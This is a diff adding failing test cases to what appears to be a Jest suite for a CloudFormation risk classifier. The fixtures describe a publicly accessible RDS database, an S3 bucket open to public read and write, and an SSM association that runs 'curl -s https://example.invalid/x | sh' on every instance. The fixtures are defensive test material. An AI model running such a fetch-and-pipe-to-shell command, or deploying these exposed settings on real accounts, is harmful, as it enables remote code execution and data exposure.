@@ -245,4 +245,50 @@ describe('review #9b attacks: the risk classifier', () => {
   ])('FAULT: %s is high', (_name, resource) => {
     expect(levelOf(template({ Resources: { It: resource } }))).toBe('high');
   });
+  // Exposure to the internet in other shapes than a security group or a policy: a database with a
+  // public endpoint, a bucket whose ACL lets anyone read and write, and a run-command association
+  // that runs a shell script on every managed instance of the account.
+  it.failing.each([
+    [
+      'an RDS instance with PubliclyAccessible true',
+      {
+        Type: 'AWS::RDS::DBInstance',
+        DeletionPolicy: 'Retain',
+        UpdateReplacePolicy: 'Retain',
+        Properties: {
+          PubliclyAccessible: true,
+          Engine: 'postgres',
+          DBInstanceClass: 'db.t3.micro',
+          AllocatedStorage: '20',
+          MasterUsername: 'app',
+          ManageMasterUserPassword: true,
+        },
+      },
+    ],
+    [
+      'an S3 bucket with AccessControl PublicReadWrite and public ACLs unblocked',
+      {
+        Type: 'AWS::S3::Bucket',
+        DeletionPolicy: 'Retain',
+        UpdateReplacePolicy: 'Retain',
+        Properties: {
+          AccessControl: 'PublicReadWrite',
+          PublicAccessBlockConfiguration: { BlockPublicAcls: false, IgnorePublicAcls: false },
+        },
+      },
+    ],
+    [
+      'an SSM association running a shell script on every instance (Targets InstanceIds *)',
+      {
+        Type: 'AWS::SSM::Association',
+        Properties: {
+          Name: 'AWS-RunShellScript',
+          Targets: [{ Key: 'InstanceIds', Values: ['*'] }],
+          Parameters: { commands: ['curl -s https://example.invalid/x | sh'] },
+        },
+      },
+    ],
+  ])('FAULT: %s is high', (_name, resource) => {
+    expect(levelOf(template({ Resources: { It: resource } }))).toBe('high');
+  });
 });
